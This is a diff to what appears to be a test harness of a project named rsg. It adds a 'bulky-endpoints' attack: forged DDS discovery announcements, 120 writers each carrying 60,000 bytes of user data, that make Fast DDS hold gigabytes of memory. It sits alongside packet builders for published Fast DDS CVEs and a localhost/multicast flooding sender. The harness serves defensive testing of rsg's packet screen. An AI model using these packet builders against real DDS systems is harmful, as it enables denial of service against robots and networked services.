@@ -23,6 +23,14 @@ test in eProsima/Fast-DDS: which submessage, which field, which values), not fro
                   DATA(w)/DATA(r) parameter drive push_back loops, bounded by nothing:
                   PID_DATA_REPRESENTATION's count and PID_DATASHARING's number of domains.
 
+And one that is no flaw of Fast DDS's parser but of its defaults, found for rsg (issue 46, "bounded
+whatever gets through"):
+
+  bulky-endpoints Fast DDS keeps every remote endpoint's announcement whole, its user data among it,
+                  by default without a bound: 120 writers of one made-up participant, each with
+                  60,000 bytes of user data (what a datagram holds), are 7 MB of the victim's memory,
+                  and 256 such participants 1.8 GB. rsg's participants bound it (data_limits).
+
 Each flaw is in a reader, for a writer Fast DDS has matched: each attack first announces a made-up
 participant (one SPDP DATA(p), tests/support/dds_attacks.py), then speaks as that participant's
 built-in writers (the SPDP and SEDP readers of every participant of the domain), or announces a
@@ -89,13 +97,13 @@ def _string(text):
     return struct.pack("<I", len(raw)) + raw
 
 
-def publication(guid_prefix, sn, parameters):
-    """A DATA(w): the made-up participant's writer USER_WRITER of robot_state (type rsg::RobotState),
+def publication(guid_prefix, sn, parameters, writer=USER_WRITER):
+    """A DATA(w): the made-up participant's writer `writer` of robot_state (type rsg::RobotState),
     whose parameter list carries `parameters` ((PID, value) pairs) before its GUID, topic and type."""
     payload = b"\x00\x03\x00\x00"  # PL_CDR_LE
     for pid, value in parameters:
         payload += _parameter(pid, value)
-    payload += _parameter(0x005A, guid_prefix + USER_WRITER)                  # PID_ENDPOINT_GUID
+    payload += _parameter(0x005A, guid_prefix + writer)                       # PID_ENDPOINT_GUID
     payload += _parameter(0x0050, guid_prefix + bytes.fromhex("000001c1"))   # PID_PARTICIPANT_GUID
     payload += _parameter(0x0005, _string("robot_state"))                      # PID_TOPIC_NAME
     payload += _parameter(0x0007, _string("rsg::RobotState"))                  # PID_TYPE_NAME
@@ -161,16 +169,33 @@ def cve_2026_49861(prefix, _reader, _writer, sn):
     return [publication(prefix, sn, [representation]), publication(prefix, sn + 1, [data_sharing])]
 
 
+# What bulky_endpoints announces: writers per made-up participant (within the 128 an rsg participant
+# keeps of one), and bytes of user data each.
+BULKY_WRITERS = 120
+BULKY_USER_DATA = 60000
+
+
+def bulky_endpoints(prefix, _reader, _writer, sn):
+    """BULKY_WRITERS DATA(w), each a writer of its own (entity keys 1 to BULKY_WRITERS, no key)
+    with BULKY_USER_DATA bytes of PID_USER_DATA."""
+    user_data = (0x002C, struct.pack("<I", BULKY_USER_DATA) + bytes(range(256)) * (BULKY_USER_DATA // 256) +
+                 bytes(BULKY_USER_DATA % 256))
+    return [publication(prefix, sn + i, [user_data], writer=struct.pack(">I", (i + 1) << 8 | 0x03))
+            for i in range(BULKY_WRITERS)]
+
+
 class Flaw:
     """One published flaw sent to one kind of reader: `target` "spdp" (the built-in participant
     reader, as the participant's own SPDP writer), "sedp" (the built-in publications reader, as its
     publications writer) or "user" (every reader of robot_state, as a writer of robot_state the
     made-up participant announced first: upstream's regression tests' target). A user reader listens
-    on unicast ports only, so `ways` is unicast alone for those."""
+    on unicast ports only, so `ways` is unicast alone for those (and for a "held" row, below)."""
 
     def __init__(self, cve, what, kind, build, target):
         self.cve, self.what, self.kind, self.build, self.target = cve, what, kind, build, target
-        self.ways = ("unicast",) if target == "user" else WAYS
+        # A "held" row to the discovery group added nothing to a plain 2.9.1 participant (36 kB):
+        # it is sent unicast, where it does.
+        self.ways = ("unicast",) if target == "user" or kind == "held" else WAYS
         self.name = f"{cve} to a user reader" if target == "user" else cve
 
     def stages(self, domain, rng, listen_port):
@@ -191,6 +216,7 @@ class Flaw:
 
 # kind: what the flaw did to Fast DDS 2.9.1 as Debian 12 builds it, without rsg's screen (issue 46):
 # "crash" (a signal), "spin" (a thread at 100 % and memory growing), "growth" (memory growing), or
+# "held": memory the victim keeps for as long as the made-up participant lives, and
 # "bounded": nothing to a reader of robot_state, whose type is bounded, so that Fast DDS gives its
 # reader a preallocated history of payloads of the type's largest size (2,159 bytes) and refuses a
 # larger sample at its first fragment ("cannot be resized"); sent for the screen, which must refuse
@@ -205,6 +231,8 @@ FLAWS = [
          cve_2025_64438, "sedp"),
     Flaw("CVE-2026-49861", "DATA(w) with a DATA_REPRESENTATION / DATASHARING count of 0xFFFFFFFF", "growth",
          cve_2026_49861, "sedp"),
+    Flaw("bulky-endpoints", f"{BULKY_WRITERS} DATA(w) of one made-up participant, each with {BULKY_USER_DATA} "
+         "bytes of user data", "held", bulky_endpoints, "sedp"),
     Flaw("CVE-2025-62799", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2025_62799, "user"),
     Flaw("CVE-2025-65865", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2025_65865, "user"),
     Flaw("CVE-2026-22590", "the same DATA_FRAGs, from a writer of robot_state", "bounded", cve_2026_22590, "user"),
@@ -215,11 +243,16 @@ def discovery_group(domain):
     return ("239.255.0.1", 7400 + 250 * domain)
 
 
+# Datagrams larger than this go one every 2 ms, so that a receive buffer of the kernel's default
+# size (208 kB, a plain Fast DDS participant's) holds them until its thread reads them.
+LARGE_DATAGRAM = 8192
+
+
 def send(stages, way, domain, ports=None, pause_s=0.1):
     """The stages of datagrams, with `pause_s` between them for the victims to take in the made-up
     participant and its writer: `unicast` to each of `ports` (default: every port of the domain bound
     on this host) on 127.0.0.1, `multicast` to the domain's discovery group, looped back to this
-    host's members and never sent on a link (TTL 0). At most about 20,000 datagrams a second."""
+    host's members and never sent on a link (TTL 0). At most about 20,000 datagrams a second, 500 large ones."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
         sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
         sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
@@ -233,7 +266,9 @@ def send(stages, way, domain, ports=None, pause_s=0.1):
             for index, datagram in enumerate(stage):
                 for target in targets:
                     sender.sendto(datagram, target)
-                if index % 200 == 199:
+                if len(datagram) > LARGE_DATAGRAM:
+                    time.sleep(0.002)
+                elif index % 200 == 199:
                     time.sleep(0.01)
 
 
